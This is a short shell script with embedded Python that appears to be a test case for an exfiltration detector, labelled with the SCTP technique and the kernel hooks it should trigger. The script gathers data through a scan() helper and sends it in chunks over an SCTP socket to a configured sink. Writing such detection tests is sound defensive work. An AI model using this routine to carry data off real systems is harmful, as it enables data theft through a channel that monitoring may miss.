#!/usr/bin/env bash
# technique: SCTP
# hooks: socket_connect, sctp_bind_connect, socket_sendmsg
# sink: private-sctp

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sink:
    sink.settimeout(5)
    sink.connect((TCP[0], int(os.environ["PORT_SCTP"])))
    for start in range(0, 1 << 16, 4096):
        sink.send(data[start : start + 4096])
PY
